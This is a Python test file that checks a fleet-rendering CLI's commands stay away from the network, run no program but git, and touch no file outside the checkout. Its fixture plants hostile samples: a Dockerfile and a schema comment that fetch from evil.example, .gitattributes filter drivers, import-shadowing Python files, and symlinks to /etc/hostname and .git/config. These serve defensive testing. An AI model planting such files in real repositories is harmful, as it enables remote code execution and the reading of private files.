"""What the commands reach on a stranger's change: no network, no program but git, no file out of the checkout."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.command import Finished, forked
from tests.fleets import REPOSITORY, FleetFolder, git
from tests.renderer.checking import GOOD
from tests.renderer.strangers import watched_command

COMMANDS = (
    "render --check", "render --dry-run", "render", "check", "check --against HEAD", "check rendered", "plan", "plan --against HEAD",
    "plan --preflight preflight --kernel 5.14.0-2.x86_64", "diff", "diff --format html --output diff.html", "explain nic",
    "explain rendered/paris/nic/module-nic.yaml", "resolve rendered/paris/nic/module-nic.yaml --kernel 5.14.0-1.x86_64",
    "import rendered --cluster a --output imported", "init driver gpu", "init cluster rome", "init fleet other",
    "webhook-config", "webhook-config --output registration", "facts redact rendered", "policy approve --from rendered", "ims preflight rendered", "ims verify --jobs rendered",
    "ims decide --csm 1.6.0 --type create", "ims compare --from 1.5.2 --to 1.6.0",
    "rules", "schema KernelDriver",
    "completion bash", "version",
)  # fmt: skip


@pytest.fixture
def hostile(fleet: FleetFolder) -> FleetFolder:
    """A committed and rendered fleet whose files hold what other tools would run or fetch."""
    fleet.write("drivers/Dockerfile", "# syntax=evil.example/frontend\nFROM http://evil.example/x\nRUN touch pwned\n")
    fleet.driver("nic", "build: {dockerfile: ./Dockerfile}\nattach: [./attached.yaml]")
    link = "https://evil.example/schema.json"
    fleet.write(
        "drivers/attached.yaml",
        f"# yaml-language-server: $schema={link}\napiVersion: v1\nkind: ConfigMap\nmetadata: {{name: a}}\n",
    )
    fleet.write(".gitattributes", "* filter=evil diff=evil textconv=evil\n")
    fleet.write("setup.py", "open('pwned', 'w')\n")
    fleet.write("sitecustomize.py", "open('pwned', 'w')\n")
    fleet.write("kmodgate/__init__.py", "open('pwned', 'w')\n")
    fleet.write("yaml.py", "open('pwned', 'w')\n")
    path = fleet.root / "clusters/paris.yaml"
    path.write_text(path.read_text().replace("count: 3", "count: 3, kernels: [5.14.0-1.x86_64]"))
    fleet.render()
    git(fleet.root, "init", "-q")
    git(fleet.root, "add", "-A")
    git(fleet.root, "commit", "-qm", "first")
    driver = fleet.root / "drivers/nic.yaml"
    driver.write_text(driver.read_text().replace("1.0-", "2.0-"))
    return fleet


def watched(folder: Path, log: Path, command: str) -> Finished:
    """Run a command under the hook, in a process of its own."""
    variables = {"TMPDIR": str(log.parent)}
    return forked(str(log), *command.split(), cwd=folder, env=variables, program=watched_command.__name__)


def started(folder: Path, log: Path, command: str) -> Finished:
    """The same where Python starts in the folder, whose files have the names of modules."""
    program = [sys.executable, "-B", "-P", "-m", watched_command.__name__, str(log), *command.split()]
    path = os.pathsep.join((str(REPOSITORY / "src"), str(REPOSITORY)))
    variables = {"PATH": "/usr/bin:/bin", "PYTHONPATH": path, "TMPDIR": str(log.parent)}
    return subprocess.run(program, cwd=folder, env=variables, capture_output=True, text=True, check=False)


@pytest.mark.timing
@pytest.mark.parametrize(
    ("command", "run"), [*((command, watched) for command in COMMANDS), ("render --check", started)]
)
def test_a_command_reaches_nothing_but_git_and_the_checkout(
    hostile: FleetFolder, tmp_path: Path, command: str, run: Callable[[Path, Path, str], Finished]
) -> None:
    log = tmp_path / "log.json"
    result = run(hostile.root, log, command)
    code, seen = json.loads(log.read_text()) if log.is_file() else pytest.fail(result.stderr)
    assert code in (0, 1, 2), result.stderr
    for event, arguments in seen:
        if event == "write":
            place = Path(arguments[0])
            assert place == Path("/dev/null") or place.is_relative_to(tmp_path), arguments
        elif event.startswith(("subprocess.", "os.posix_spawn", "os.fork")):
            assert not arguments or "git" in (arguments[0], *arguments[1:2])[0], arguments
        else:
            pytest.fail(f"{event} {arguments}")
    assert not (hostile.root / "pwned").exists()


@pytest.mark.parametrize("target", ["/etc/hostname", "../outside.yaml", ".git/config"])
@pytest.mark.parametrize(
    "command", ["check manifests", "check .", "import manifests --cluster a --dry-run", "facts redact manifests"]
)
def test_a_link_out_of_the_repository_is_not_read(tmp_path: Path, target: str, command: str) -> None:
    (tmp_path / "outside.yaml").write_text(GOOD)
    root = tmp_path / "repository"
    (root / "manifests").mkdir(parents=True)
    git(root, "init", "-q")
    (root / "manifests/module.yaml").write_text(GOOD)
    (root / "manifests/evil.yaml").symlink_to(target if target.startswith("/") else f"../{target}")
    result = FleetFolder.run(FleetFolder.__new__(FleetFolder), *command.split(), cwd=root)
    assert (result.returncode, "through a symbolic link" in result.stderr) == (2, True), result.stderr


@pytest.mark.parametrize("target", ["/etc/hostname", "../../../../outside.yaml", "../../../.git/config", "/nowhere"])
def test_a_rendered_file_that_is_a_link_is_not_explained(fleet: FleetFolder, target: str) -> None:
    git(fleet.root, "init", "-q")
    fleet.render()
    (fleet.root.parent / "outside.yaml").write_text(GOOD)
    (fleet.root / "rendered/paris/nic/evil.yaml").symlink_to(target)
    result = fleet.run("explain", "rendered/paris/nic/evil.yaml")
    assert (result.returncode, result.stdout, "Traceback" in result.stderr) == (2, "", False), result.stderr
